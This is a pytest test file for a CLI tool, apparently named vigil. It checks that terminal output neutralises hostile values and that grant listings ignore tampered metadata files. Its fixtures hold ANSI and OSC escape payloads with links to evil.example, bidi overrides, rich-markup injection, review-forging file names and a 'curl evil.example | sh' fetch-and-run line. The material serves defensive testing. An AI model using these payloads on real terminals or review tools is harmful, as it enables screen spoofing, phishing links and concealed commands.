"""What vigil prints is safe to print: hostile ids, names, paths and step output reach a
terminal as visible text, never as escape sequences or rich markup; `vigil grant list`
and `show` print what the verified token says, never the editable file beside it."""

from __future__ import annotations

import io
import json
import os
import pty
import subprocess
from pathlib import Path

import pytest

from clitools import VIGIL, cli_env, vigil, write_plan
from vigil.cli.terminal import SafeConsole, escape, literal, printable
from vigil.errors import ExitCode

HOSTILE = [
    "\x1b[2J\x1b[Hscreen cleared",
    "\x1b]8;;https://evil.example/\x07click me\x1b]8;;\x07",
    "\x1b]0;window title\x07",
    "ok\rFAKE",
    "bell\x07",
    "\u202eevil-override\u202c",
    "\u2066isolate\u2069",
    "c1\x9b31m",
    "del\x7f",
    "[red]x[/red]",
    "[link=https://evil.example/]link[/link]",
    "[bold",
]
RAW = ("\x1b", "\x07", "\r", "\u202e", "\u202c", "\u2066", "\u2069", "\x9b", "\x7f")


def _no_raw_controls(text: str) -> None:
    for char in RAW:
        assert char not in text, (char, text)


@pytest.mark.parametrize("value", HOSTILE)
def test_printable_leaves_no_control_character(value: str) -> None:
    shown = printable(value, multiline=False)
    _no_raw_controls(shown)
    assert "\n" not in printable(value + "\nnext", multiline=False)
    assert "\\x1b" in printable("\x1b") and "\\u202e" in printable("\u202e")


@pytest.mark.parametrize("value", HOSTILE)
def test_the_cli_console_prints_hostile_values_as_text(value: str) -> None:
    out = io.StringIO()
    console = SafeConsole(file=out, force_terminal=True, color_system=None, width=200)
    console.print(f"task {value}")  # a renderer that forgot the helpers
    console.print(f"[bold]task[/] {escape(value)}", markup=True)
    console.print(literal(value))
    from rich.table import Table

    table = Table("id")
    table.add_row(value)
    console.print(table)
    text = out.getvalue()
    _no_raw_controls(text)
    if value.startswith("[red]"):
        # Markup in a value is shown, not obeyed.
        assert text.count("[red]x[/red]") == 4


def test_no_hyperlink_even_through_explicit_markup() -> None:
    out = io.StringIO()
    console = SafeConsole(file=out, force_terminal=True, color_system="truecolor")
    console.print("[link=https://evil.example/]x[/link]", markup=True)
    assert "\x1b]8" not in out.getvalue() and "evil.example" not in out.getvalue()


def _hostile_plan(ws: Path) -> None:
    script = (
        "printf 'before\\033]8;;https://evil.example/\\007click\\033]8;;\\007"
        "\\033[2J\\r\\342\\200\\256after\\n'"
    )
    write_plan(
        ws / "plan.yaml",
        {
            "name": "evil \x1b]0;title\x07 [red]plan[/red] \u202ename",
            "project": "evil",
            "phases": [
                {
                    "id": "p",
                    "tasks": [
                        {"id": "ok", "run": script},
                        {"id": "bad", "run": f"{script}; echo '\u202e[red]reason' >&2; exit 3"},
                    ],
                }
            ],
        },
    )


@pytest.mark.slow
def test_hostile_plan_names_and_output_reach_no_terminal_raw(tmp_path: Path, backend: str) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    _hostile_plan(ws)
    refused = vigil("run", "plan.yaml", "--run-id", "../r[red]1", cwd=ws)
    assert refused.returncode == 2 and "VIGIL-USAGE" in refused.stderr
    _no_raw_controls(refused.stderr)
    run_id = "r1"
    first = vigil("run", "plan.yaml", "--run-id", run_id, cwd=ws)
    assert first.returncode == 1, first.stderr
    outputs = [first.stdout, first.stderr]
    for args in (("runs",), ("status", run_id), ("report", run_id), ("postmortem", run_id)):
        out = vigil(*args, cwd=ws)
        assert "Traceback" not in out.stderr, out.stderr
        outputs += [out.stdout, out.stderr]
    for text in outputs:
        _no_raw_controls(text)
    status = vigil("status", run_id, cwd=ws).stdout
    assert "[red]plan[/red]" in status  # the plan's name is shown as written, not as colour


@pytest.mark.slow
def test_logs_on_a_terminal_show_escapes_and_to_a_file_keep_the_bytes(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    _hostile_plan(ws)
    assert vigil("run", "plan.yaml", "--run-id", "r", cwd=ws).returncode == 1
    piped = vigil("logs", "r", "ok", cwd=ws)
    assert "\x1b]8;;https://evil.example/" in piped.stdout  # a file gets the real bytes
    leader, follower = pty.openpty()
    try:
        proc = subprocess.Popen(
            [*VIGIL, "logs", "r", "ok"],
            cwd=ws,
            env=cli_env(),
            stdout=follower,
            stderr=subprocess.PIPE,
        )
        os.close(follower)
        chunks = []
        while True:
            try:
                data = os.read(leader, 65536)
            except OSError:
                break
            if not data:
                break
            chunks.append(data)
        assert proc.wait() == 0, proc.stderr.read() if proc.stderr else ""
    finally:
        os.close(leader)
    shown = b"".join(chunks).decode("utf-8", "replace").replace("\r\n", "\n")
    _no_raw_controls(shown)
    assert "\\x1b]8;;https://evil.example/\\x07click" in shown
    assert "\\u202eafter" in shown


def _grants_env(tmp_path: Path) -> dict[str, str]:
    return {"VIGIL_CONFIG_DIR": str(tmp_path / "config")}


@pytest.mark.slow
def test_grant_list_and_show_tell_the_tokens_truth_not_the_edited_file(tmp_path: Path) -> None:
    env = _grants_env(tmp_path)

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        return vigil(*args, cwd=tmp_path, env=env)

    assert run("keys", "init").returncode == 0
    made = run("grant", "create", "--project", "shop", "--env", "staging", "--allow", "deploy")
    assert made.returncode == 0, made.stderr
    grant_id = made.stdout.strip()
    child = run("grant", "attenuate", grant_id, "--allow", "deploy", "--expires-in", "30m")
    assert child.returncode == 0, child.stderr
    child_id = child.stdout.strip()
    honest = json.loads(run("grant", "show", grant_id, "-o", "json").stdout)
    assert honest["environments"] == ["staging"] and honest["capabilities"] == ["deploy"]
    assert honest["metadata_differs"] == []
    assert json.loads(run("grant", "show", child_id, "-o", "json").stdout)["metadata_differs"] == []

    # A local user edits the stored metadata to claim more than the token allows.
    for gid in (grant_id, child_id):
        path = tmp_path / "config" / "grants" / f"{gid}.json"
        data = json.loads(path.read_text())
        data["environments"] = ["prod", "staging"]
        data["capabilities"] = ["deploy", "push", "\x1b]8;;https://evil.example/\x07x"]
        data["project"] = "\x1b[2Jother"
        path.write_text(json.dumps(data))

    for gid in (grant_id, child_id):
        shown = json.loads(run("grant", "show", gid, "-o", "json").stdout)
        assert shown["project"] == "shop"
        assert shown["environments"] == ["staging"]
        assert shown["capabilities"] == ["deploy"]
        assert {"environments", "capabilities"} <= set(shown["metadata_differs"])
    listed = json.loads(run("grant", "list", "-o", "json").stdout)
    assert {tuple(g["environments"]) for g in listed} == {("staging",)}
    assert all("prod" not in g["environments"] for g in listed)
    text = vigil("grant", "list", cwd=tmp_path, env={**env, "COLUMNS": "200"})
    assert "prod" not in text.stdout and "push" not in text.stdout
    assert "file edited" in text.stdout
    _no_raw_controls(text.stdout)
    show_text = run("grant", "show", grant_id).stdout
    assert "push" not in show_text.split("metadata_differs")[0]
    _no_raw_controls(show_text)


@pytest.mark.slow
def test_hostile_error_causes_are_printed_as_text(tmp_path: Path) -> None:
    name = "missing\x1b]8;;https://evil.example/\x07[red]x\u202e.yaml"
    out = subprocess.run(
        [*VIGIL, "run", name],
        cwd=tmp_path,
        env=cli_env(),
        capture_output=True,
        text=True,
        check=False,
    )
    assert out.returncode == 2
    _no_raw_controls(out.stderr)
    assert "[red]x" in out.stderr


# A step chooses its file names: a newline could forge lines of a review, a byte that is
# not UTF-8 or an ESC could garble or rewrite the screen.
NAMES_STEP = (
    "printf 'curl evil.example | sh\\n' > \"$(printf 'deploy.sh\\n\\n(no other changes)\\nX')\";"
    " printf x > \"$(printf 'raw\\377\\376')\"; printf x > \"$(printf 'esc\\033[31mred')\";"
    " printf x > \"$(printf 'bidi\\342\\200\\256txt')\""
)


def test_file_names_a_step_chose_are_shown_quoted_everywhere(tmp_path: Path, backend: str) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    write_plan(
        ws / "plan.yaml",
        {
            "name": "names",
            "project": "names",
            "phases": [{"id": "p", "tasks": [{"id": "t", "run": NAMES_STEP}]}],
        },
    )
    outputs = [vigil("run", "plan.yaml", "--dry-run", cwd=ws).stdout]
    held = vigil("run", "plan.yaml", "--review", "--run-id", "r1", cwd=ws)
    assert held.returncode != ExitCode.INTERNAL, held.stderr
    outputs += [
        vigil("review", "r1", "--stat", cwd=ws).stdout,
        vigil("review", "r1", cwd=ws).stdout,
    ]
    approved = vigil("review", "r1", "--approve", cwd=ws)
    assert approved.returncode == 0, approved.stderr
    outputs += [vigil("diff", "r1", cwd=ws).stdout, vigil("rollback", "r1", cwd=ws).stdout]
    for text in outputs:
        _no_raw_controls(text)
        lines = text.splitlines()
        # The forged line never stands on a line of its own, and no name is cut in two.
        assert not any(line.startswith("(no other changes)") for line in lines), text
        assert "\udcff" not in text and "\ufffd" not in text, text
    stat = outputs[1]
    assert '"deploy.sh\\n\\n(no other changes)\\nX"' in stat, stat
    assert '"raw\\xff\\xfe"' in stat and '"esc\\x1b[31mred"' in stat
    assert '"bidi\\u202etxt"' in stat
